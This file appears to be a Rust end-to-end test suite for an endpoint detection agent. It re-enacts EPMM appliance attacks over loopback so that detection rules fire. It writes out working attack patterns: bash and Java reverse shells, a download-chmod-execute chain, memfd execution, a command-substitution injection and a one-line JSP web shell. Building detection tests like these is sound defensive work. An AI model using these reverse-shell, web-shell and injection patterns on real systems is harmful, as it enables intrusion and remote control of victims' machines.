@@ -1,0 +1,395 @@
+//! Detection end to end: attacks on an EPMM appliance re-enacted with real processes and
+//! loopback sockets, seen by the real probes, raised by the default rule pack (and by
+//! SigmaHQ rules), with ancestry and evidence. Benign activity raises nothing.
+
+use std::{
+    io::{Read, Write},
+    net::TcpListener,
+    os::unix::fs::PermissionsExt,
+    process::{Command, Stdio},
+    time::Duration,
+};
+
+use sensor_e2e::{Agent, Scratch, alert_of, marker, num, tomcat_reenact};
+use serde_json::Value;
+
+fn ancestry_pids(alert: &Value) -> Vec<u64> {
+    alert["ancestry"]
+        .as_array()
+        .map(|a| a.iter().map(|p| num(&p["pid"])).collect())
+        .unwrap_or_default()
+}
+
+/// Sleeper-shell style: the Tomcat JVM runs `sh -c` with a downloader (CVE-2025-4428,
+/// the 403.jsp commands). B2 names the JVM as the lineage source; Sigma's "Suspicious
+/// Java Children Processes" fires too.
+#[test]
+fn tomcat_runtime_exec_of_sh_with_a_downloader() {
+    let sigma = sensor_e2e::sigma_linux_rules();
+    let mut agent = Agent::start(&["--sigma", sigma.to_str().unwrap()]);
+    let tag = marker("b2");
+    let out = tomcat_reenact(&[
+        "exec",
+        "/bin/sh",
+        "-c",
+        &format!("curl -s -m 2 http://127.0.0.1:9/{tag} || true"),
+    ])
+    .output()
+    .unwrap();
+    assert!(out.status.success(), "{out:?}");
+
+    let line = agent.wait_for("EPMM-B2", |l| {
+        alert_of(l, "EPMM-B2").is_some_and(|a| a["process"]["argv"].to_string().contains(&tag))
+    });
+    let alert = &line["alert"];
+    assert_eq!(alert["severity"], "SEVERITY_HIGH");
+    assert_eq!(alert["techniques"][1], "T1059.004");
+    assert_eq!(alert["lineage"]["identity"], "tomcat");
+    let jvm = num(&alert["lineage"]["sourcePid"]);
+    assert!(
+        alert["lineage"]["sourceExe"]
+            .as_str()
+            .unwrap()
+            .ends_with("/java")
+    );
+    assert_eq!(
+        num(&alert["process"]["ppid"]),
+        jvm,
+        "the JVM process, not its worker thread"
+    );
+    let chain = ancestry_pids(alert);
+    assert_eq!(chain[0], jvm);
+    assert_eq!(*chain.last().unwrap(), 1, "ancestry up to pid 1");
+    assert_eq!(
+        alert["evidence"][0]["exec"]["parentThreadComm"],
+        "http-bio-127.0."
+    );
+    assert!(!alert["host"].as_str().unwrap().is_empty());
+    assert!(alert["agentId"].as_str().unwrap().starts_with("agent-"));
+
+    // curl is a child of sh: still the web tier, one level deeper.
+    agent.wait_for("Sigma: Suspicious Java Children Processes", |l| {
+        l.get("alert").is_some_and(|a| {
+            a["ruleId"].as_str().unwrap_or("").starts_with("sigma:")
+                && a["title"] == "Suspicious Java Children Processes"
+                && a["process"]["argv"].to_string().contains(&tag)
+        })
+    });
+    agent.stop();
+}
+
+/// CVE-2026-1281/1340: a bash RewriteMap helper under an httpd-named parent evaluates an
+/// injected command substitution in a forked subshell, which runs `id`.
+#[test]
+fn rewritemap_helper_subshell_runs_id() {
+    let mut agent = Agent::start(&[]);
+    let dir = Scratch::new("b1");
+    std::fs::create_dir_all(dir.path("mi/bin")).unwrap();
+    let httpd = dir.path("httpd");
+    std::fs::copy("/bin/bash", &httpd).unwrap();
+    let helper = dir.path("mi/bin/map-appstore-url");
+    // A helper that, like the vulnerable script, lets an arithmetic context run `id`.
+    std::fs::write(
+        &helper,
+        "#!/bin/bash\nread -r line\ngPath=(x)\ntheValue='gPath[$(id >/dev/null; echo 0)]'\n[[ 1 -gt ${theValue} ]] && echo served\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let mut server = Command::new(&httpd)
+        .args(["-c", &format!("echo request | {}", helper.display())])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut served = String::new();
+    server
+        .stdout
+        .take()
+        .unwrap()
+        .read_to_string(&mut served)
+        .unwrap();
+    let _ = server.wait();
+    assert!(served.contains("served"), "{served:?}");
+
+    let line = agent.wait_for("EPMM-B1", |l| {
+        alert_of(l, "EPMM-B1")
+            .is_some_and(|a| a["process"]["exe"].as_str().unwrap_or("").ends_with("/id"))
+    });
+    let alert = &line["alert"];
+    assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
+    assert_eq!(alert["lineage"]["identity"], "rewritemap-helper");
+    // id's parent is the forked subshell of the helper, whose parent is the helper.
+    let ancestry = alert["ancestry"].as_array().unwrap();
+    let helper_pid = num(&alert["lineage"]["sourcePid"]);
+    assert!(ancestry.iter().any(|p| num(&p["pid"]) == helper_pid));
+    assert!(
+        ancestry
+            .iter()
+            .any(|p| p["exe"].as_str().unwrap_or("").ends_with("/httpd")),
+        "the httpd-named parent is in the ancestry: {ancestry:?}"
+    );
+    agent.stop();
+}
+
+/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`.
+#[test]
+fn bash_reverse_shell_to_a_loopback_listener() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut shell = Command::new("/bin/bash")
+        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.write_all(b"exit\n").unwrap();
+    let _ = shell.wait();
+
+    let line = agent.wait_for("EPMM-B7", |l| {
+        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(shell.id()))
+    });
+    let alert = &line["alert"];
+    assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
+    let stdio = &alert["evidence"][0]["exec"]["stdio"];
+    assert_eq!(num(&stdio[0]["socket"]["remotePort"]), u64::from(port));
+    agent.stop();
+}
+
+/// A Java-native reverse shell: the JVM connects out, then feeds /bin/sh through pipes.
+#[test]
+fn java_native_reverse_shell() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string()])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(20)))
+        .unwrap();
+    conn.write_all(b"echo pwned-$((6*7)); exit\n").unwrap();
+    let mut got = String::new();
+    let _ = conn.read_to_string(&mut got);
+    assert!(got.contains("pwned-42"), "the shell answered: {got:?}");
+    let _ = jvm.wait();
+
+    let line = agent.wait_for("EPMM-B8", |l| {
+        alert_of(l, "EPMM-B8").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
+    });
+    let alert = &line["alert"];
+    let evidence = alert["evidence"].as_array().unwrap();
+    assert_eq!(evidence.len(), 2, "the connect and the shell");
+    assert_eq!(
+        num(&evidence[0]["connect"]["socket"]["remotePort"]),
+        u64::from(port)
+    );
+    assert_eq!(evidence[1]["exec"]["stdio"][0]["kind"], "FD_KIND_PIPE");
+    // No socket ever reached the shell's descriptors: the fd-based rule stays quiet.
+    let b7 = agent.collect(Duration::from_millis(100), |l| {
+        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
+    });
+    assert!(b7.is_empty());
+    agent.stop();
+}
+
+/// A payload executed from a memfd.
+#[test]
+fn memfd_execution_raises_b16() {
+    let mut agent = Agent::start(&[]);
+    let tag = marker("memfd");
+    let script = format!(
+        "import os\nfd = os.memfd_create('{tag}')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['kworker'], {{}})\n"
+    );
+    let status = Command::new("/usr/bin/python3")
+        .args(["-c", &script])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let line = agent.wait_for("EPMM-B16", |l| {
+        alert_of(l, "EPMM-B16").is_some_and(|a| a["process"]["exe"] == format!("/memfd:{tag}"))
+    });
+    assert_eq!(line["alert"]["severity"], "SEVERITY_CRITICAL");
+    agent.stop();
+}
+
+/// curl downloads a payload from a loopback HTTP server, chmod +x, then runs it.
+#[test]
+fn download_chmod_execute_from_tmp() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let server = std::thread::spawn(move || {
+        let body = std::fs::read("/bin/true").unwrap();
+        let (mut conn, _) = listener.accept().unwrap();
+        let mut request = [0u8; 1024];
+        let _ = conn.read(&mut request);
+        let header = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
+        conn.write_all(header.as_bytes()).unwrap();
+        conn.write_all(&body).unwrap();
+    });
+    let payload = format!("/tmp/{}", marker("kl"));
+    let status = Command::new("/bin/sh")
+        .args([
+            "-c",
+            &format!(
+                "curl -s -o {payload} http://127.0.0.1:{port}/kl && chmod +x {payload} && {payload}"
+            ),
+        ])
+        .status()
+        .unwrap();
+    server.join().unwrap();
+    let _ = std::fs::remove_file(&payload);
+    assert!(status.success());
+
+    let line = agent.wait_for("EPMM-B5", |l| {
+        alert_of(l, "EPMM-B5").is_some_and(|a| a["process"]["exe"] == payload.as_str())
+    });
+    let evidence = line["alert"]["evidence"].as_array().unwrap();
+    assert_eq!(evidence.len(), 3);
+    assert!(evidence[0]["exec"]["argv"].to_string().contains("curl"));
+    assert_eq!(evidence[1]["file"]["path"], payload.as_str());
+    // Running from /tmp is B17 as well.
+    agent.wait_for("EPMM-B17", |l| {
+        alert_of(l, "EPMM-B17").is_some_and(|a| a["process"]["exe"] == payload.as_str())
+    });
+    agent.stop();
+}
+
+/// A JSP written into a web root (configured by the test: an override of `webroot_dirs`
+/// and a watch on it) by a shell.
+#[test]
+fn jsp_written_into_the_web_root_by_a_shell() {
+    let web = Scratch::new("webroot");
+    let rules = Scratch::new("rules");
+    std::fs::write(
+        rules.path("local.yaml"),
+        format!(
+            "lists:\n  - name: webroot_dirs\n    items: [\"{}/\"]\n",
+            web.str()
+        ),
+    )
+    .unwrap();
+    let mut agent = Agent::start(&[
+        "--rules",
+        rules.str(),
+        "--watch",
+        &format!("{}/", web.str()),
+    ]);
+    let status = Command::new("/bin/sh")
+        .args([
+            "-c",
+            "echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > 403.jsp",
+        ])
+        .current_dir(&web.0)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let jsp = format!("{}/403.jsp", web.str());
+    let line = agent.wait_for("EPMM-B9", |l| {
+        alert_of(l, "EPMM-B9").is_some_and(|a| a["evidence"][0]["file"]["path"] == jsp.as_str())
+    });
+    assert_eq!(
+        line["alert"]["process"]["exe"],
+        std::fs::canonicalize("/bin/sh").unwrap().to_str().unwrap()
+    );
+    assert!(
+        line["alert"]["source"]
+            .as_str()
+            .unwrap()
+            .starts_with("<embedded>"),
+        "the pack's rule, with the operator's list"
+    );
+    agent.stop();
+}
+
+/// The JVM's own child plumbing, an administrator's shell session and a package query
+/// raise nothing.
+#[test]
+fn benign_activity_raises_nothing() {
+    let mut agent = Agent::start(&[]);
+    let benign = marker("benign");
+    let out = tomcat_reenact(&["exec", "/usr/bin/true", &benign])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let admin = Command::new("/bin/bash")
+        .args([
+            "-c",
+            &format!("ls -l /etc >/dev/null; id >/dev/null; uname -a >/dev/null; hostname >/dev/null; dpkg -l >/dev/null # {benign}"),
+        ])
+        .status()
+        .unwrap();
+    assert!(admin.success());
+    // Something that does alert, afterwards: once it is seen, the benign activity's
+    // alerts (if any) would have been seen too.
+    let tag = marker("sentinel");
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut shell = Command::new("/bin/bash")
+        .args([
+            "-c",
+            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.write_all(b"exit\n").unwrap();
+    let _ = shell.wait();
+    agent.wait_for("the sentinel alert", |l| alert_of(l, "EPMM-B7").is_some());
+
+    // Alerts whose process or any ancestor carries the benign marker.
+    let jvm_or_admin = agent.collect(Duration::from_millis(200), |l| {
+        l.get("alert").is_some_and(|a| {
+            a["process"]["argv"].to_string().contains(&benign)
+                || a["ancestry"].to_string().contains(&benign)
+        })
+    });
+    assert!(
+        jvm_or_admin.is_empty(),
+        "benign activity alerted: {jvm_or_admin:#?}"
+    );
+    agent.stop();
+}
+
+/// A Tomcat started before the agent is seeded from /proc, labelled, and named as the
+/// lineage source and in the ancestry of what it starts later.
+#[test]
+fn tomcat_started_before_the_agent_is_in_the_ancestry() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // The JVM connects, then waits for input before starting its shell.
+    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string()])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    // The shell is already running; the agent starts now.
+    let mut agent = Agent::start(&[]);
+    let tag = marker("preexisting");
+    conn.write_all(format!("/bin/sh -c 'echo {tag}'; exit\n").as_bytes())
+        .unwrap();
+    let mut got = String::new();
+    conn.set_read_timeout(Some(Duration::from_secs(20)))
+        .unwrap();
+    let _ = conn.read_to_string(&mut got);
+    let _ = jvm.wait();
+    let line = agent.wait_for("EPMM-B2 from the pre-existing JVM", |l| {
+        alert_of(l, "EPMM-B2").is_some_and(|a| a["process"]["argv"].to_string().contains(&tag))
+    });
+    let alert = &line["alert"];
+    assert_eq!(num(&alert["lineage"]["sourcePid"]), u64::from(jvm.id()));
+    assert!(ancestry_pids(alert).contains(&u64::from(jvm.id())));
+    assert!(
+        alert["ancestry"].to_string().contains("catalina.base"),
+        "the JVM's argv came from /proc"
+    );
+    agent.stop();
+}
